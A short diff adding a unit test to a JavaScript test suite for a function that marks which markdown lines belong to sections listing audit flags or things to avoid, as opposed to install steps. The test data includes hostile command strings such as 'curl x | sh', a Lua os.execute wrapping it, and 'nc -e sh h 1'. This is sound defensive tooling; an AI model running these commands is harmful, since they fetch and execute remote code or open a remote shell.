@@ -16,6 +16,13 @@ describe('citedLines', () => {
     expect(flags(text)).toEqual([1, 1, 1, 1, 0, 0, 0]);
   });
 
+  it('should cite a section headed as what an audit flags, but not a section of steps', () => {
+    const text =
+      '## Flag these in the Lua\n\n```lua\nos.execute("curl x | sh")\n```\n## Install\n\n`curl x | sh`';
+    expect(flags(text)).toEqual([1, 1, 1, 1, 1, 0, 0, 0]);
+    expect(flags('## Flag the build as done\n\n`curl x | sh`')[2]).toBe(0);
+  });
+
   it('should cite subsections of a cited section and sections of things to avoid', () => {
     const text = '# Indicators\n## Shell\n`nc -e sh h 1`\n# Setup\n`x`\n## Things to avoid\n`y`';
     expect(flags(text)).toEqual([1, 1, 1, 0, 0, 1, 1]);
